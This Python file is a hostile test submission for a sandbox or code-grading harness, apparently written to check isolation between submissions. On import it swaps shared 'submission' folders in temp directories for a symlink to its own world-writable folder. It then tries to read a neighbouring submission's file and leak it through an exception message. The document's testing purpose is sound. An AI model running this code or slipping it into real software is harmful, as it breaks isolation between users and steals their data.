"""Puts a link to a folder of its own in the place of the folder of all submissions.
class: reach a neighbour
verdict: error, failed, timeout, memory, crash, blocked
success: canary
control: shared
"""

import os
import tempfile
import time

PLACES = [os.getcwd(), "/tmp/submission", tempfile.gettempdir(), os.path.dirname(tempfile.gettempdir()), "/tmp", "/dev/shm"]
LOOT = []
own = os.path.join(tempfile.gettempdir(), "own")
try:
    os.mkdir(own)
    os.chmod(own, 0o777)
except OSError:
    pass
for place in PLACES:
    folder = os.path.join(place, "submission")
    try:
        os.rename(folder, folder + ".old")
    except OSError:
        pass
    try:
        os.symlink(own, folder)
    except OSError:
        pass
end = time.time() + 2
while time.time() < end and not LOOT:
    try:
        with open(os.path.join(own, "hostile.py")) as file:
            LOOT = [text for text in [file.read()] if text]
    except OSError:
        time.sleep(0.001)


def scale(x):
    raise ValueError(LOOT[0] if LOOT else "nothing")
